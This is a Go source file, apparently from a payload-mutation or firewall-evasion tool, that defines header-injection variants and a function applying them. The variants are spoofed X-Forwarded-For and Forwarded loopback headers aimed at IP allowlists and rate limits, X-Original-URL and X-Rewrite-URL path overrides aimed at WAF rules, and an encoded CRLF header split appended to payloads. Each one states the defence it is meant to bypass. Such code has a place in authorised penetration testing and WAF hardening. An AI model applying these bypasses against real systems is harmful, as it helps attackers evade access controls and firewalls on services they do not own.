package mutation

// Protocol variants are header-injection templates: they perturb how the
// request is attributed or parsed rather than the payload body.
var protocolVariants = []Variant{
	{Name: "header_xff_loopback", Description: "X-Forwarded-For: 127.0.0.1", BypassTarget: "IP allowlists and rate keys"},
	{Name: "header_forwarded_local", Description: "RFC 7239 Forwarded spoofing", BypassTarget: "proxy-trusting middleware"},
	{Name: "header_original_url", Description: "X-Original-URL path override", BypassTarget: "path-scoped WAF rules"},
	{Name: "header_rewrite_url", Description: "X-Rewrite-URL path override", BypassTarget: "path-scoped WAF rules"},
	{Name: "crlf_injection", Description: "Encoded CRLF header split appended to payload", BypassTarget: "response-header reflection"},
}

func applyProtocol(payload, variant string) (Result, error) {
	switch variant {
	case "header_xff_loopback":
		return Result{
			Payload: payload,
			Headers: map[string]string{"X-Forwarded-For": "127.0.0.1"},
		}, nil
	case "header_forwarded_local":
		return Result{
			Payload: payload,
			Headers: map[string]string{"Forwarded": "for=127.0.0.1;host=localhost;proto=https"},
		}, nil
	case "header_original_url":
		return Result{
			Payload: payload,
			Headers: map[string]string{"X-Original-URL": "/"},
		}, nil
	case "header_rewrite_url":
		return Result{
			Payload: payload,
			Headers: map[string]string{"X-Rewrite-URL": "/"},
		}, nil
	case "crlf_injection":
		return Result{Payload: payload + "%0d%0aX-Injected:%201"}, nil
	default:
		return Result{}, unknownVariant(FamilyProtocol, variant)
	}
}
